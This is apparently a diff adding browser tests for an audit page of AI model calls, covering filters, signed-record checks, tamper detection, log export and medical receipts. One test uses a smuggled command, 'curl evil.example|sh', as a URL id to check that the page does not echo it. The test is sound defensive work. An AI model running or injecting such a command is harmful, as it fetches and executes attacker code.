@@ -1,0 +1,362 @@
+// /app/calls as people use it: what a tier or a role has not, the filters, one call in the drawer, medical calls, and the log as a file.
+import type { Page } from 'playwright-core'
+import { describe, expect, it } from 'vitest'
+import { changeAnswers, pathsOf, saved, showRole } from '../support/browser/acts.ts'
+import { ownerOn, pageOf, service } from '../support/browser/browser.ts'
+import { open, settled } from '../support/browser/pages.ts'
+import { shiftOf } from '../support/browser/visitor.ts'
+
+const { owner } = service.filled
+
+const record = (page: Page) => page.getByRole('region', { name: 'Signed record' })
+
+const openFirst = async (page: Page): Promise<void> => {
+  await page.locator('.calls .cover').first().click()
+}
+
+describe('the calls', () => {
+  it('are the last fifty in a tier without all of them: nothing is requested that it lacks, and the log is exported', async () => {
+    const page = await pageOf(ownerOn('pro'))
+    const refused: string[] = []
+    page.on('response', (response) => response.status() === 403 && refused.push(response.url()))
+    await page.goto('/app/calls')
+    await expect.poll(() => page.locator('#lead').innerText()).toContain('Your last 50 calls of 7 days')
+    await settled(page)
+    expect(refused).toEqual([])
+    await expect.poll(() => page.getByRole('alert').count()).toBe(0)
+    await page.getByRole('button', { name: 'Evidence file' }).click()
+    const lines = (await saved(page, 'Save as JSON lines')).text.trim().split('\n')
+    expect(JSON.parse(lines.at(-1) ?? '')).toMatchObject({ object: 'audit_export.end' })
+    await expect.poll(() => page.getByText('Saved:').innerText()).toMatch(/Complete: [\d,]+ entries, none missing/)
+  })
+
+  it('come with their signed record in every tier, which is checked here', async () => {
+    const page = await pageOf(owner)
+    await changeAnswers<{ organisations: object[] }>(page, '**/api/auth/me', (user) => ({
+      ...user,
+      organisations: user.organisations.map((one) => ({ ...one, tier: 'free' })),
+    }))
+    await open(page, '/app/calls')
+    await openFirst(page)
+    await expect.poll(() => record(page).innerText()).toContain('Signature valid.')
+    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read it' }).count()).toBe(0)
+  })
+
+  it('waits for the names of its keys, so that nothing jumps once they are there', async () => {
+    const page = await pageOf(owner)
+    const named = Promise.withResolvers<void>()
+    await page.route('**/api/keys?*', async (route) => {
+      await named.promise
+      await route.continue()
+    })
+    const trail = page.waitForResponse((response) => response.url().includes('/api/calls'))
+    await page.goto('/app/calls')
+    await (await trail).finished()
+    await expect.poll(() => page.locator('.skeleton').count()).toBeGreaterThan(0)
+    named.resolve()
+    await settled(page)
+    await expect.poll(() => page.getByRole('table', { name: 'Calls' }).innerText()).not.toMatch(/key_[\da-f]{8}-/)
+    expect(await shiftOf(page)).toBeLessThan(0.02)
+  })
+
+  it('shows a colleague the same calls by its address, and goes back by the button of the browser', async () => {
+    const page = await open(owner, '/app/calls')
+    const outcomes = page.getByRole('group', { name: 'Outcome' })
+    await outcomes.getByRole('link', { name: /^Blocked/ }).click()
+    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=blocked')
+    await settled(page)
+    await expect.poll(() => outcomesOf(page)).toEqual(new Set(['Blocked']))
+    await page.goBack()
+    await settled(page)
+    await expect.poll(() => outcomesOf(page).then((all) => all.has('Passed'))).toBe(true)
+    await expect.poll(() => outcomes.locator('[aria-current=true]').innerText()).toMatch(/^All/)
+  })
+
+  it('are counted as they are listed, by outcome and by the rule that stopped them', async () => {
+    const page = await open(owner, '/app/calls?outcome=blocked')
+    const counted = page.getByRole('group', { name: 'Outcome' }).locator('[aria-current=true] .number')
+    const rows = page.locator('.calls .cover')
+    await expect.poll(async () => (await rows.count()) === Number(await counted.innerText())).toBe(true)
+    const rule = page.getByRole('group', { name: 'Rule' }).getByRole('link').first()
+    const count = Number(await rule.locator('b').innerText())
+    await rule.click()
+    await expect.poll(() => rows.count()).toBe(count)
+    await page.getByRole('button', { name: `Save these ${count} (CSV)` }).waitFor()
+  })
+
+  it('ask for no days that are in no order', async () => {
+    const page = await open(owner, '/app/calls')
+    await page.getByRole('button', { name: 'Last 30 days' }).click()
+    await page.getByLabel('From').fill('2026-11-20')
+    await page.getByLabel('To', { exact: true }).fill('2026-11-01')
+    await page.getByRole('button', { name: 'Apply' }).click()
+    await page.locator('input:invalid').first().waitFor()
+    expect(new URL(page.url()).search).toBe('')
+    await page.getByLabel('To', { exact: true }).fill('2026-11-20')
+    await page.getByRole('button', { name: 'Apply' }).click()
+    await expect.poll(() => new URL(page.url()).search).toBe('?from=2026-11-20&to=2026-11-20')
+  })
+
+  it('are found by a part of their model, and the search is one filter that can be taken away', async () => {
+    const page = await open(owner, '/app/calls')
+    await page.getByRole('searchbox').fill('HAIKU')
+    await page.getByRole('searchbox').press('Enter')
+    await expect
+      .poll(() => page.locator('.calls tbody tr:not(.day) td:nth-of-type(2)').allInnerTexts())
+      .toEqual(expect.arrayContaining(['claude-haiku-4-5']))
+    await settled(page)
+    const models = await page.locator('.calls tbody tr:not(.day) td:nth-of-type(2)').allInnerTexts()
+    expect(new Set(models)).toEqual(new Set(['claude-haiku-4-5']))
+    await page.getByRole('link', { name: 'remove the filter Search' }).click()
+    await expect.poll(() => new URL(page.url()).search).toBe('')
+  })
+
+  it('opens the call of a record by its id, and no other for half of one', async () => {
+    const page = await open(owner, '/app/calls')
+    const address = (await page.locator('.calls .cover').last().getAttribute('href')) ?? ''
+    const id = new URL(address, page.url()).searchParams.get('id') ?? ''
+    await page.getByRole('searchbox').fill(id.slice(0, -1))
+    await page.getByRole('searchbox').press('Enter')
+    await page.getByText('No call like this in these days').waitFor()
+    await page.getByRole('searchbox').fill(id)
+    await page.getByRole('searchbox').press('Enter')
+    await expect.poll(() => record(page).innerText()).toContain('Signature valid.')
+  })
+
+  it('opens a call with its record, proofs and cost, checked here, and gives the focus back', async () => {
+    const page = await open(owner, '/app/calls?outcome=passed&use_case=triage-notes')
+    await openFirst(page)
+    const drawer = page.getByRole('dialog')
+    await expect.poll(() => record(page).innerText()).toContain('Signature valid.')
+    expect(new URL(page.url()).searchParams.get('id')).toMatch(/^[0-9a-f-]{36}$/)
+    for (const part of ['Cost', 'signed as', 'In the public log']) {
+      await drawer.getByText(part).first().waitFor()
+    }
+    await expect.poll(() => drawer.getByRole('list', { name: 'What happened' }).innerText()).toMatch(/pass[^]*Answered/)
+    await page.keyboard.press('Escape')
+    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=passed&use_case=triage-notes')
+    await page.locator('.calls .cover:focus').waitFor()
+  })
+
+  it('leads from one call to the older one and back', async () => {
+    const page = await open(owner, '/app/calls?outcome=blocked')
+    await openFirst(page)
+    const drawer = page.getByRole('dialog')
+    await expect.poll(() => drawer.innerText()).toMatch(/1 of \d+ shown/)
+    await drawer.getByRole('button', { name: 'Newer call' }).press('Enter')
+    await drawer.getByRole('button', { name: 'Older call' }).click()
+    await expect.poll(() => drawer.innerText()).toMatch(/2 of \d+ shown/)
+    await expect.poll(() => record(page).innerText()).toContain('signed as BLOCKED')
+    await drawer.getByRole('button', { name: 'Newer call' }).click()
+    await expect.poll(() => drawer.innerText()).toMatch(/1 of \d+ shown/)
+  })
+
+  it('hands its record to the verifier, which finds it valid by the keys of the service', async () => {
+    const page = await open(owner, '/app/calls?outcome=passed')
+    await openFirst(page)
+    await page.getByRole('button', { name: 'Open in Verify' }).click()
+    await page.waitForURL('**/verify')
+    await expect.poll(() => page.locator('main input').first().inputValue()).toMatch(/^call-[0-9a-f-]{36}\.json/)
+    await expect.poll(() => page.evaluate('sessionStorage.length')).toBe(0)
+  })
+
+  it('finds that a record was changed on its way', async () => {
+    const page = await pageOf(owner)
+    await page.route(/\/api\/calls\/[0-9a-f-]{36}$/, async (route) => {
+      const response = await route.fetch({ maxRetries: 2 })
+      const body = (await response.text()).replace('"outcome":"ALLOWED"', '"outcome":"BLOCKED"')
+      await route.fulfill({ response, body })
+    })
+    await open(page, '/app/calls?outcome=passed&use_case=triage-notes')
+    await openFirst(page)
+    await expect.poll(() => record(page).getByRole('status').innerText()).toContain('Not valid')
+  })
+
+  it('contradicts a trail that says otherwise of a call than its signed record', async () => {
+    const page = await pageOf(owner)
+    await changeAnswers<{ data: object[] }>(page, /\/api\/calls\?/, (body) => ({
+      ...body,
+      data: body.data.map((entry) => ({ ...entry, model: 'another-model' })),
+    }))
+    await page.goto('/app/calls?outcome=passed&use_case=triage-notes')
+    await openFirst(page)
+    await expect.poll(() => record(page).getByRole('status').innerText()).toContain('Not valid')
+    await expect.poll(() => record(page).innerText()).toContain('The list differs from what is signed: model.')
+  })
+
+  it('opens a call by its link, however long before the calls of the list it was', async () => {
+    const page = await pageOf(owner)
+    await page.goto('/app/calls?outcome=passed')
+    await page.locator('.calls .cover').last().click()
+    const drawer = page.getByRole('dialog')
+    const known = drawer.getByRole('region', { name: 'What it took' })
+    const told = await known.innerText()
+    expect(told).toMatch(/Answered by\s+\S/)
+    // As a colleague has it a year later: the list has come to other days.
+    await page.goto(`${page.url()}&from=2024-01-01&to=2024-01-02`)
+    await expect.poll(() => known.innerText()).toBe(told)
+    await drawer.getByRole('button', { name: 'Close' }).click()
+    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=passed&from=2024-01-01&to=2024-01-02')
+  })
+
+  it('says whether content was kept only once somebody asks to read it', async () => {
+    const page = await pageOf(owner)
+    let asked = 0
+    page.on('request', (request) => (asked += Number(request.url().includes('/compliance/content/'))))
+    await open(page, '/app/calls')
+    await openFirst(page)
+    const read = page.getByRole('button', { name: 'Read it, and have that written down' })
+    await read.waitFor()
+    expect(asked).toBe(0)
+    await read.click()
+    await expect.poll(() => page.getByRole('dialog').innerText()).toContain('This call has no stored content')
+  })
+
+  it('look on by themselves where a page of the log had nothing, and say what could not be read', async () => {
+    const page = await pageOf(owner)
+    await page.route(/\/api\/calls\?(?!.*cursor)/, (route) =>
+      route.fulfill({
+        json: { object: 'list', data: [], has_more: true, next_cursor: '900', unreadable_entries: 2 },
+      }),
+    )
+    await page.goto('/app/calls')
+    await expect.poll(() => page.locator('main').innerText()).toContain('2 entries of the log cannot be read')
+    await page.locator('.calls .cover').first().waitFor()
+  })
+
+  it('says of a file without its last line that it is not whole', async () => {
+    const page = await pageOf(owner)
+    await page.route(/\/api\/compliance\/audit-logs/, (route) =>
+      route.fulfill({ body: '{"object":"audit_export.head"}\n', contentType: 'application/x-ndjson' }),
+    )
+    await page.goto('/app/calls')
+    await page.getByRole('button', { name: 'Evidence file' }).click()
+    await page.getByRole('button', { name: 'Save as JSON lines' }).click()
+    await expect.poll(() => page.getByText('Saved:').innerText()).toContain('it is not whole')
+  })
+
+  it('puts into no line for a terminal what somebody wrote into the address', async () => {
+    const page = await pageOf(owner)
+    await page.goto(`/app/calls?id=${encodeURIComponent('x";curl evil.example|sh;"')}`)
+    await expect.poll(() => page.getByRole('dialog').innerText()).toContain('No call has this id')
+    await expect.poll(() => page.getByRole('dialog').locator('pre').count()).toBe(0)
+    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read it' }).count()).toBe(0)
+  })
+
+  it('goes on with the next part where these days have more leaves than one file', async () => {
+    const page = await pageOf(owner)
+    const cursors: (string | null)[] = []
+    await page.route(/\/api\/compliance\/audit-logs/, (route) => {
+      const cursor = new URL(route.request().url()).searchParams.get('cursor')
+      cursors.push(cursor)
+      const end = {
+        object: 'audit_export.end',
+        entries: 3,
+        withheld: 0,
+        next_cursor: cursor === null ? '1000000' : null,
+      }
+      return route.fulfill({ body: `${JSON.stringify(end)}\n`, contentType: 'application/x-ndjson' })
+    })
+    await page.goto('/app/calls')
+    await page.getByRole('button', { name: 'Evidence file' }).click()
+    await page.getByRole('button', { name: 'Save as JSON lines' }).click()
+    await page.getByRole('button', { name: 'Save the next part' }).click()
+    await expect.poll(() => page.getByRole('button', { name: 'Save the next part' }).count()).toBe(0)
+    expect(cursors).toEqual([null, '1000000'])
+  })
+
+  it('shows the key that the address narrows the calls down to, where its name cannot be had', async () => {
+    const page = await pageOf(owner)
+    await page.route('**/api/keys?*', (route) => route.abort())
+    const key = 'key_0198f3a0-5b7e-7c41-9d1e-2f6a8c0b4d11'
+    await open(page, `/app/calls?key=${key}`)
+    await page.getByRole('button', { name: `Key ${key}` }).waitFor()
+  })
+
+  it('shows a call that comes while the page is open, without being asked', async () => {
+    const page = await pageOf(owner)
+    await page.clock.install()
+    let isFirst = true
+    await changeAnswers<{ data: object[] }>(page, /\/api\/calls\?/, (body) => {
+      const data = isFirst ? body.data.slice(1) : body.data
+      isFirst = false
+      return { ...body, data }
+    })
+    await open(page, '/app/calls')
+    const rows = page.locator('.calls .cover')
+    await rows.first().waitFor()
+    const before = await rows.count()
+    await page.clock.runFor(16_000)
+    await expect.poll(() => rows.count()).toBe(before + 1)
+  })
+})
+
+const outcomesOf = async (page: Page): Promise<ReadonlySet<string>> =>
+  new Set(await page.locator('.calls tbody .outcome').allInnerTexts())
+
+describe('medical calls', () => {
+  it('are what a clinician sees, with their proofs, by the addresses that receipts had', async () => {
+    const page = await pageOf(owner)
+    await showRole(page, 'clinician')
+    const asked = pathsOf(page)
+    await page.goto('/app/receipts')
+    await expect.poll(() => new URL(page.url()).search).toBe('?medical=yes')
+    await openFirst(page)
+    await expect.poll(() => record(page).innerText()).toContain('Signature valid.')
+    expect(asked.filter((path) => path.startsWith('/api/calls'))).toEqual([])
+  })
+
+  it('are a filter of the calls, and saved byte for byte as they were answered', async () => {
+    const page = await open(owner, '/app/calls')
+    await page.getByRole('button', { name: 'Filter' }).click()
+    await page.getByRole('link', { name: 'Only calls of medical use cases' }).click()
+    await openFirst(page)
+    await expect.poll(() => record(page).innerText()).toContain('Signature valid.')
+    const { name, text } = await saved(page, 'Save as JSON')
+    const id = new URL(page.url()).searchParams.get('id')
+    expect(name).toBe(`receipt-${id}.json`)
+    expect(JSON.parse(text)).toMatchObject({ object: 'medical_receipt', id })
+  })
+
+  it('are not valid where a genuine one of another call comes in their place', async () => {
+    const page = await pageOf(owner)
+    await open(page, '/app/calls?medical=yes')
+    const links = page.locator('.calls .cover')
+    const other = new URL((await links.nth(1).getAttribute('href')) ?? '', page.url()).searchParams.get('id')
+    await page.route(/\/api\/health\/receipts\/[0-9a-f-]{36}$/, async (route) => {
+      const url = new URL(`/api/health/receipts/${other}`, page.url()).href
+      await route.fulfill({ response: await route.fetch({ url, maxRetries: 2 }) })
+    })
+    await openFirst(page)
+    await expect.poll(() => record(page).getByRole('status').innerText()).toContain('Not valid')
+    await expect.poll(() => record(page).innerText()).toContain('It is of another call than the one asked for.')
+  })
+
+  it('say so where what came is no receipt, instead of showing anything', async () => {
+    const page = await pageOf(owner, { provoked: /^error: Cannot read properties/ })
+    await page.route(/\/api\/health\/receipts\/[0-9a-f-]{36}$/, (route) => route.fulfill({ json: { valid: true } }))
+    await page.goto('/app/calls?medical=yes')
+    await openFirst(page)
+    await page.getByRole('alert').waitFor()
+    await expect.poll(() => page.getByText('Signature valid').count()).toBe(0)
+  })
+
+  it('are exported as a file that is said to be whole', async () => {
+    const page = await open(owner, '/app/calls?medical=yes')
+    await page.getByRole('button', { name: 'Evidence file' }).click()
+    expect((await saved(page, 'Save as CSV')).name).toMatch(/^invented-data-countersign-medical-receipts-.*\.csv$/)
+    await expect.poll(() => page.getByText('Saved:').innerText()).toContain('Complete: it arrived whole.')
+  })
+
+  it('print with their source, the hash of their leaf and exact times, and without buttons', async () => {
+    const page = await open(owner, '/app/calls?medical=yes')
+    await openFirst(page)
+    await record(page).waitFor()
+    await page.emulateMedia({ media: 'print' })
+    await expect
+      .poll(() => page.locator('.only-print').innerText())
+      .toMatch(/from http.*\/app\/calls\?medical=yes&id=[^]*[0-9a-f]{64}/)
+    await expect.poll(() => page.getByRole('dialog').getByRole('button').count()).toBe(0)
+    await expect.poll(() => page.locator('.side').isVisible()).toBe(false)
+  })
+})
